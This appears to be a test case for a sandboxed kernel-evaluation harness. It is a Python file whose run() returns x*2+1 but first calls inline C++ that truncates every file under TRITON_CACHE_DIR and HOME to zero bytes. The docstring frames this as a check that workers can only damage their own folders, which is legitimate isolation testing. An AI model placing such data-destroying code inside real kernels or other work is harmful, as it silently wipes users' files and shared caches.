# ruff: noqa
"""C++ truncates every file it can find under TRITON_CACHE_DIR (a campaign's caches, shared by its children) and
under its HOME, but for its own build, on its first call. The answer is honest. Each worker has a HOME of its own
and writes only its own source's folder of the shared caches, so all it can empty is its own."""

import torch
from torch.utils.cpp_extension import load_inline

_SRC = r"""
#include <torch/extension.h>
#include <cstdlib>
#include <cstring>
#include <ftw.h>
#include <unistd.h>
static int64_t truncated = 0;
static int visit(const char* path, const struct stat*, int kind, struct FTW*) {
  if (kind == FTW_F && strstr(path, "native_overwrite_shared_caches") == nullptr && truncate(path, 0) == 0)
    truncated++;
  return 0;
}
int64_t overwrite() {
  static bool done = false;
  if (done) return truncated;
  done = true;
  for (const char* name : {"TRITON_CACHE_DIR", "HOME"}) {
    const char* root = std::getenv(name);
    if (root != nullptr && root[0] == '/' && strlen(root) > 1) nftw(root, visit, 16, FTW_PHYS);
  }
  return truncated;
}
"""
_ext = load_inline("native_overwrite_shared_caches", cpp_sources=_SRC, functions=["overwrite"], verbose=False)


def run(x: torch.Tensor) -> torch.Tensor:
    _ext.overwrite()
    return x * 2 + 1
